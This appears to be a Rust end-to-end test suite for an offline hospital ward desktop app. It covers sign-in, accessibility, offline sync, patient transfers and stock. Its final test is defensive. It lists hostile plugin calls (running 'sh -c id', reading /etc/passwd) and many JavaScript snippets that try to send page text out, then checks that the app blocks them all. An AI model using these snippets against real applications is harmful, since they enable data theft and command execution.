//! The same through real windows: people join, sign in and work by what they see, with the network
//! cut and joined again; pictures are kept, and axe looks at every page in both themes.
#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};

use anyhow::{Result, ensure};
use serde_json::{Value as Json, json};
use wardroom_tests::attack::commands::calls;
use wardroom_tests::attack::traces::Needles;
use wardroom_tests::district::District;
use wardroom_tests::net::link::Link;
use wardroom_tests::place::program;
use wardroom_tests::window::Window;

/// Keys as WebDriver names them.
const DOWN: &str = "\u{e015}";
const ENTER: &str = "\u{e007}";
const CONTROL: &str = "\u{e009}";

/// The pages of a nurse.
const PAGES: &[&str] = &[
    "/",
    "/beds",
    "/patients",
    "/patients/new",
    "/triage",
    "/stock",
    "/inbox",
    "/sync",
    "/settings",
];

/// The smallest screen that is worked on, in CSS pixels.
const SMALL: (u32, u32) = (1093, 614);

/// Where pictures are kept: beside the built programs' folder.
fn pictures() -> Result<PathBuf> {
    let programs = program("wardroom")?;
    let target = programs
        .parent()
        .and_then(Path::parent)
        .map(PathBuf::from)
        .unwrap_or_default();
    Ok(target.join("windows"))
}

/// Sets a new computer up with an invitation, as its admin would.
async fn join(window: &Window, link: &Link, district: &District, name: &str) -> Result<()> {
    window.press("Continue").await?;
    window.find("[id=\"firstrun-way\"]").await?;
    window.press("Continue").await?;
    let invitation = format!("https://{}#{}", link.address, district.invite().await?);
    window.fill("join-address", &invitation).await?;
    window.fill("join-desk", name).await?;
    window.press("Join").await?;
    window.says("Compare these words").await?;
    window.press("They are the same: sign in").await
}

/// Signs a person in by their username.
async fn sign_in(window: &Window, username: &str) -> Result<()> {
    window.fill("signin-username", username).await?;
    window.fill("signin-password", sample::PASSWORD).await?;
    window.press("Sign in").await?;
    window.find("main#page").await?;
    Ok(())
}

/// Keeps a picture of each page, and answers what axe finds on it and whether it is wider than the window.
async fn walk(window: &Window, look: &str) -> Result<Vec<String>> {
    let mut found = Vec::new();
    for page in PAGES {
        window.go(page).await?;
        let name = if *page == "/" {
            "war-room".to_owned()
        } else {
            page.trim_matches('/').replace('/', "-")
        };
        window.picture(&pictures()?.join(format!("{name}-{look}.png"))).await?;
        let mut here = window.violations().await?;
        let is_wider = "return document.documentElement.scrollWidth > window.innerWidth";
        if window.client.execute(is_wider, vec![]).await? == json!(true) {
            here.push("scrolls sideways".to_owned());
        }
        found.extend(here.into_iter().map(|line| format!("{page} {look}: {line}")));
    }
    Ok(found)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_computer_joins_its_district_and_every_page_is_usable_by_everybody() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let district = District::new(&folder.path().join("server")).await?;
    let link = Link::new(district.address).await?;
    let window = Window::open(&folder.path().join("a")).await?;
    window.picture(&pictures()?.join("first-run.png")).await?;
    join(&window, &link, &district, "ICU desk").await?;
    window.picture(&pictures()?.join("sign-in.png")).await?;
    sign_in(&window, "anju").await?;
    window.says("All changes sent").await?;
    let mut found = Vec::new();
    for theme in ["light", "dark"] {
        window
            .client
            .execute(
                "document.documentElement.dataset.theme = arguments[0]",
                vec![json!(theme)],
            )
            .await?;
        found.extend(walk(&window, theme).await?);
    }
    // The same on the smallest screen, in letters that another engine than the browser's shapes.
    window.client.set_window_size(SMALL.0, SMALL.1).await?;
    window.go("/settings").await?;
    window
        .click_path("//*[@role='tab'][contains(., 'Language and look')]")
        .await?;
    window.click_path("//label[contains(., 'മലയാളം')]").await?;
    window.holds("return document.documentElement.lang === 'ml'").await?;
    found.extend(walk(&window, "ml").await?);
    ensure!(found.is_empty(), "found:\n{}", found.join("\n"));
    window.close().await
}

/// Two windows of one hospital, each with a link of its own that can be cut, and a nurse at each.
async fn two_nurses(folder: &Path, district: &District) -> Result<[(Window, Link); 2]> {
    let (link_a, link_b) = (Link::new(district.address).await?, Link::new(district.address).await?);
    let (a, b) = (
        Window::open(&folder.join("a")).await?,
        Window::open(&folder.join("b")).await?,
    );
    for (window, link, person) in [(&a, &link_a, "anju"), (&b, &link_b, "biju")] {
        join(window, link, district, person).await?;
        sign_in(window, person).await?;
        window.says("All changes sent").await?;
    }
    Ok([(a, link_a), (b, link_b)])
}

/// Lets each send what it has, the first once more for what the others sent.
async fn sync_in_turn(windows: [&Window; 3]) -> Result<()> {
    for window in windows {
        window.go("/sync").await?;
        window.press("Sync now").await?;
        window.says("nothing waits").await?;
    }
    Ok(())
}

/// Opens the patient in the first bed of a ward and answers the address of the page.
async fn open_first_patient(window: &Window) -> Result<String> {
    window.go("/beds").await?;
    window.find("[data-status=\"occupied\"]").await?.click().await?;
    window.find("aside a[href*=\"patients\"]").await?.click().await?;
    window.find("[data-banner]").await?;
    let address = window.client.execute("return location.hash", vec![]).await?;
    Ok(address.as_str().unwrap_or_default().trim_start_matches('#').to_owned())
}

/// Gives the patient on the page another phone number.
async fn change_phone(window: &Window, phone: &str) -> Result<()> {
    window.press("Edit patient").await?;
    window.fill("patient.phone", phone).await?;
    window.press("Save").await?;
    window.says(phone).await
}

/// Files this morning's triage: the count of people seen.
async fn file_triage(window: &Window, visited: &str) -> Result<()> {
    window.go("/triage").await?;
    window
        .find("main a[href*=\"shift=morning\"], main [data-primary]")
        .await?
        .click()
        .await?;
    window.fill("triage.visited", visited).await?;
    window.find("main [data-primary]").await?.click().await?;
    window.says("Saved on this computer").await
}

#[tokio::test(flavor = "multi_thread")]
async fn two_windows_work_with_the_network_cut_and_one_disagreement_is_decided_by_a_person() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let district = District::new(&folder.path().join("server")).await?;
    let [(a, link_a), (b, link_b)] = two_nurses(folder.path(), &district).await?;
    let patient = open_first_patient(&a).await?;
    b.go(&patient).await?;
    link_a.cut();
    link_b.cut();
    change_phone(&a, "+919876500001").await?;
    change_phone(&b, "+919876500002").await?;
    file_triage(&a, "31").await?;
    a.says("saved here").await?;
    a.picture(&pictures()?.join("offline.png")).await?;
    link_a.join(district.address);
    link_b.join(district.address);
    sync_in_turn([&a, &b, &a]).await?;
    for window in [&a, &b] {
        window.go("/inbox").await?;
        window.find("[data-conflict=\"patient.phone\"]").await?;
        window.says("+919876500001").await?;
        window.says("+919876500002").await?;
    }
    a.picture(&pictures()?.join("conflict.png")).await?;
    a.find("[data-conflict=\"patient.phone\"] button")
        .await?
        .click()
        .await?;
    for window in [&a, &b] {
        window.says("Nothing waits for a decision").await?;
    }
    b.picture(&pictures()?.join("decided.png")).await?;
    a.close().await?;
    b.close().await
}

/// Registers somebody and answers the address of their page.
async fn register(window: &Window, name: &str) -> Result<()> {
    window.go("/patients/new").await?;
    window.fill("patient.name", name).await?;
    window.find("main [data-primary]").await?.click().await?;
    window.find("[data-banner]").await?;
    Ok(())
}

/// Chooses in a box that is searched by typing.
async fn choose(window: &Window, field: &str, typed: &str) -> Result<()> {
    let input = window.find(&format!("[data-field=\"{field}\"] input")).await?;
    window.select(&input).await?;
    window.keys(typed).await?;
    // The list is narrowed to what was typed; its first line is taken by keys.
    let other = format!("//*[@role='option'][not(contains(., '{typed}'))]");
    window.is_gone_path(&other).await?;
    window
        .find_path(&format!("//*[@role='option'][contains(., '{typed}')]"))
        .await?;
    window.keys(&format!("{DOWN}{ENTER}")).await?;
    window.is_gone("[role=listbox]").await
}

/// Finds the bed of somebody by typing the name on the board, opens its panel and presses a letter
/// there: all by keyboard.
async fn at_the_bed_of(window: &Window, name: &str, letter: &str) -> Result<()> {
    window.go("/beds").await?;
    window.find("[data-bed][tabindex=\"0\"]").await?;
    let focus = "document.querySelector('[data-bed][tabindex=\"0\"]').focus()";
    window.client.execute(focus, vec![]).await?;
    window.keys(name).await?;
    let found = format!("//button[@data-bed and @tabindex='0'][contains(., '{name}')]");
    window.find_path(&found).await?;
    window.keys(ENTER).await?;
    window
        .holds("return document.getElementById('bed-panel').contains(document.activeElement)")
        .await?;
    window.keys(letter).await?;
    window.find("[role=dialog] [data-primary]").await?;
    Ok(())
}

/// Sends the dialog that is open, and waits until it is gone.
async fn send(window: &Window) -> Result<()> {
    window.keys(&format!("{CONTROL}{ENTER}")).await?;
    window.says("Saved on this computer").await?;
    window.is_gone("[role=dialog]").await
}

#[tokio::test(flavor = "multi_thread")]
async fn with_the_network_cut_people_admit_transfer_discharge_and_give_out_stock_and_the_other_desk_sees_it()
-> Result<()> {
    let folder = tempfile::tempdir()?;
    let district = District::new(&folder.path().join("server")).await?;
    let [(a, link_a), (b, link_b)] = two_nurses(folder.path(), &district).await?;
    link_a.cut();
    link_b.cut();

    register(&a, "Kamala Devi").await?;
    a.go("/beds").await?;
    a.find("[data-bed][data-status=\"free\"]").await?.click().await?;
    a.find("#bed-panel button").await?.click().await?;
    choose(&a, "encounter.patient", "Kamala").await?;
    a.picture(&pictures()?.join("admit.png")).await?;
    send(&a).await?;
    a.find_path("//button[@data-status='occupied'][contains(., 'Kamala Devi')]")
        .await?;

    let free = a.find("[data-bed][data-status=\"free\"]").await?;
    let (ward, bed) = (free.attr("data-ward").await?, free.attr("data-bed").await?);
    let place = format!("{} {}", ward.unwrap_or_default(), bed.unwrap_or_default());
    at_the_bed_of(&a, "Kamala Devi", "m").await?;
    choose(&a, "bed_stay.bed", &place).await?;
    a.picture(&pictures()?.join("transfer.png")).await?;
    send(&a).await?;

    b.go("/beds").await?;
    let lying = b
        .find_path("//button[@data-bed and @data-status='occupied']//span[@title and normalize-space(.)=@title]")
        .await?;
    let leaving = lying.attr("title").await?.unwrap_or_default();
    at_the_bed_of(&b, &leaving, "d").await?;
    b.click_path("//label[contains(., 'Recovered')]").await?;
    b.picture(&pictures()?.join("discharge.png")).await?;
    send(&b).await?;

    for window in [&a, &b] {
        window.go("/stock").await?;
        window.press("Record a movement").await?;
        choose(window, "stock_entry.item", "Paracetamol").await?;
        window.click_path("//label[normalize-space(.)='Issue']").await?;
        window.fill("stock_entry.quantity", "3").await?;
        window.picture(&pictures()?.join("issue.png")).await?;
        send(window).await?;
        window.says("saved here").await?;
    }

    link_a.join(district.address);
    link_b.join(district.address);
    sync_in_turn([&a, &b, &a]).await?;
    for window in [&a, &b] {
        window.go("/beds").await?;
        let moved = "//button[@data-ward][@data-status='occupied'][contains(., 'Kamala Devi')]";
        let tile = window.find_path(moved).await?;
        let (ward, bed) = (tile.attr("data-ward").await?, tile.attr("data-bed").await?);
        let stands = format!("{} {}", ward.unwrap_or_default(), bed.unwrap_or_default());
        ensure!(stands == place, "Kamala lies in {stands}, not in {place}");
        window
            .is_gone_path(&format!("//button[@data-bed][contains(., '{leaving}')]"))
            .await?;
    }
    a.picture(&pictures()?.join("board-after.png")).await?;
    a.close().await?;
    b.close().await
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_district_keeps_aside_is_dismissed_by_the_admin_and_its_author_is_told_why() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let district = District::new(&folder.path().join("server")).await?;
    let (ward, office) = (Link::new(district.address).await?, Link::new(district.address).await?);
    let a = Window::open(&folder.path().join("a")).await?;
    join(&a, &ward, &district, "Ward desk").await?;
    sign_in(&a, "anju").await?;
    a.says("All changes sent").await?;
    ward.cut();
    register(&a, "Kamala Devi").await?;
    district.run(&["user", "disable", "anju"]).await?;
    ward.join(district.address);
    a.find("[id=\"signin-password\"]").await?;

    let b = Window::open(&folder.path().join("b")).await?;
    join(&b, &office, &district, "Office").await?;
    sign_in(&b, "admin.1").await?;
    b.go("/inbox").await?;
    b.find("[data-aside]").await?;
    b.says("Kamala Devi").await?;
    b.picture(&pictures()?.join("kept-aside.png")).await?;
    b.press("Dismiss…").await?;
    b.fill("aside.why", "Twice on paper").await?;
    b.keys(&format!("{CONTROL}{ENTER}")).await?;
    b.is_gone("[data-aside]").await?;

    district.run(&["user", "enable", "anju"]).await?;
    sign_in(&a, "anju").await?;
    a.go("/sync").await?;
    a.press("Sync now").await?;
    a.says("Dismissed by").await?;
    a.says("Twice on paper").await?;
    a.picture(&pictures()?.join("dismissed.png")).await?;
    a.press("Seen").await?;
    a.is_gone_path("//button[normalize-space(.)='Seen']").await?;
    a.close().await?;
    b.close().await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wrong_password_is_told_and_a_lock_hides_everything_at_once() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let district = District::new(&folder.path().join("server")).await?;
    let link = Link::new(district.address).await?;
    let window = Window::open(&folder.path().join("a")).await?;
    join(&window, &link, &district, "ICU desk").await?;
    window.fill("signin-username", "anju").await?;
    window.fill("signin-password", "not the right one").await?;
    window.press("Sign in").await?;
    window.says("This password does not open").await?;
    window.fill("signin-password", sample::PASSWORD).await?;
    window.press("Sign in").await?;
    window.find("main#page").await?;
    window.press("Lock").await?;
    window.says("Anju Thomas").await?;
    window.find("[id=\"signin-password\"]").await?;
    let page = window
        .client
        .execute("return document.querySelector('main#page') === null", vec![])
        .await?;
    ensure!(page == json!(true), "the page is still there after the lock");
    window.close().await
}

/// What a page that was taken over would call beside the desk's own commands: other plugins, and what of the window is
/// not for it.
const FOREIGN: &[(&str, &str)] = &[
    ("plugin:shell|open", r#"{"path":"/etc/passwd"}"#),
    ("plugin:shell|execute", r#"{"program":"sh","args":["-c","id"]}"#),
    ("plugin:opener|open_path", r#"{"path":"/etc/passwd"}"#),
    ("plugin:fs|read_text_file", r#"{"path":"/etc/passwd"}"#),
    ("plugin:fs|write_text_file", r#"{"path":"/tmp/x","contents":"x"}"#),
    (
        "plugin:http|fetch",
        r#"{"clientConfig":{"method":"GET","url":"http://127.0.0.1/"}}"#,
    ),
    ("plugin:path|resolve_directory", r#"{"directory":1}"#),
    ("plugin:app|name", "{}"),
    ("plugin:event|emit", r#"{"event":"notice","payload":{}}"#),
    (
        "plugin:event|emit_to",
        r#"{"target":{"kind":"Any"},"event":"notice","payload":{}}"#,
    ),
    (
        "plugin:webview|create_webview_window",
        r#"{"options":{"label":"x","url":"https://example.org"}}"#,
    ),
    ("plugin:webview|internal_toggle_devtools", "{}"),
    ("plugin:window|create", r#"{"options":{"label":"x"}}"#),
    ("plugin:window|hide", r#"{"label":"main"}"#),
    ("plugin:window|set_title", r#"{"label":"main","value":"x"}"#),
    ("plugin:resources|close", r#"{"rid":0}"#),
    ("plugin:image|from_path", r#"{"path":"/etc/passwd"}"#),
    ("plugin:menu|new", r#"{"kind":"Menu","options":{},"handler":0}"#),
    ("plugin:tray|new", r#"{"options":{},"handler":0}"#),
    ("__proto__", "{}"),
    ("desk::open", "{}"),
];

/// Ways in which a page sends something out, or goes where it is not ours; `WHERE` stands for a server that listens.
const WAYS_OUT: &[&str] = &[
    "fetch('WHERE/fetch', { method: 'POST', body: document.body.innerText }).catch(() => 0)",
    "new XMLHttpRequest().open('GET', 'WHERE/xhr')",
    "const asked = new XMLHttpRequest(); asked.open('GET', 'WHERE/xhr'); asked.send()",
    "navigator.sendBeacon && navigator.sendBeacon('WHERE/beacon', document.body.innerText)",
    "new WebSocket('WHERE/socket'.replace('http', 'ws'))",
    "new EventSource('WHERE/events')",
    "new Image().src = 'WHERE/image'",
    "document.head.appendChild(Object.assign(document.createElement('script'), { src: 'WHERE/script' }))",
    "document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'WHERE/style' }))",
    "document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'WHERE/fetched' }))",
    "document.body.appendChild(Object.assign(document.createElement('iframe'), { src: 'WHERE/frame' }))",
    "document.body.appendChild(Object.assign(document.createElement('object'), { data: 'WHERE/object' }))",
    "const form = document.createElement('form'); form.action = 'WHERE/form'; document.body.appendChild(form); form.submit()",
    "document.body.style.backgroundImage = 'url(WHERE/background)'",
    "new FontFace('x', 'url(WHERE/font)').load().catch(() => 0)",
    "new Worker('WHERE/worker')",
    "window.open('WHERE/window')",
    "const link = document.createElement('a'); link.href = 'WHERE/link'; link.click()",
    "const file = document.createElement('a'); file.href = 'WHERE/file'; file.download = 'x'; file.click()",
    "const refresh = document.createElement('meta'); refresh.httpEquiv = 'refresh'; refresh.content = '0;url=WHERE/refresh'; document.head.appendChild(refresh)",
    "location.href = 'WHERE/gone'",
    "location.href = 'file:///etc/passwd'",
    "location.href = 'data:text/html,gone'",
];

/// Calls one after the other from within the page. Answers, for each, whether it was answered with something, and what
/// was said.
async fn call_all(window: &Window, calls: &[(String, Json)]) -> Result<Vec<(bool, String)>> {
    let script = "const [calls, done] = arguments;
        (async () => {
            const heard = [];
            for (const [name, args] of calls) {
                try { heard.push([true, JSON.stringify(await window.__TAURI_INTERNALS__.invoke(name, args)) ?? '']); }
                catch (refused) { heard.push([false, typeof refused === 'string' ? refused : JSON.stringify(refused)]); }
            }
            done(heard);
        })()";
    let heard = window
        .client
        .execute_async(script, vec![serde_json::to_value(calls)?])
        .await?;
    Ok(serde_json::from_value(heard)?)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_was_taken_over_gets_no_further_than_its_person_and_sends_nothing_out() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let district = District::new(&folder.path().join("server")).await?;
    let link = Link::new(district.address).await?;
    let window = Window::open(&folder.path().join("a")).await?;
    join(&window, &link, &district, "ICU desk").await?;
    sign_in(&window, "anju").await?;
    register(&window, "Kunjukunju Thankamani").await?;
    let patient = window.client.execute("return location.hash.slice(1)", vec![]).await?;
    link.cut();

    let mut hostile: Vec<(String, Json)> = calls().into_iter().step_by(23).collect();
    hostile.retain(|(name, _)| !["stand_alone", "join", "rejoin"].contains(&name.as_str()));
    ensure!(hostile.len() > 30, "hardly any call: {}", hostile.len());
    for (answer, (name, _)) in call_all(&window, &hostile).await?.iter().zip(&hostile) {
        let (is_answered, said) = answer;
        ensure!(!said.contains("panic"), "{name}: {said}");
        ensure!(!(*is_answered && name == "sign_in"), "{name} was answered");
    }
    let foreign = FOREIGN
        .iter()
        .map(|(name, args)| Ok(((*name).to_owned(), serde_json::from_str(args)?)));
    let foreign = foreign.collect::<Result<Vec<(String, Json)>>>()?;
    for (answer, (name, _)) in call_all(&window, &foreign).await?.iter().zip(&foreign) {
        ensure!(!answer.0, "{name} was answered: {}", answer.1);
    }

    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let place = format!("http://{}", listener.local_addr()?);
    for way in WAYS_OUT {
        let script = format!("try {{ {} }} catch (refused) {{}}", way.replace("WHERE", &place));
        window.client.execute(&script, vec![]).await?;
        let came = tokio::time::timeout(std::time::Duration::from_millis(400), listener.accept()).await;
        ensure!(came.is_err(), "it got out: {way}");
        window
            .holds("return location.host === 'localhost' && document.querySelector('#page') !== null")
            .await?;
    }

    window.go(patient.as_str().unwrap_or_default()).await?;
    window.says("Kunjukunju Thankamani").await?;
    window.says("Anju Thomas").await?;
    let traps = window.written_and_run()?;
    ensure!(
        traps.is_empty(),
        "memory that is both written and run:\n{}",
        traps.join("\n")
    );
    window.close().await?;
    let needles = Needles::new([
        "Kunjukunju".to_owned(),
        "Thankamani".to_owned(),
        sample::PASSWORD.to_owned(),
    ])?;
    let found = needles.search(folder.path())?;
    ensure!(found.places.is_empty(), "{:?}", found.places);
    Ok(())
}
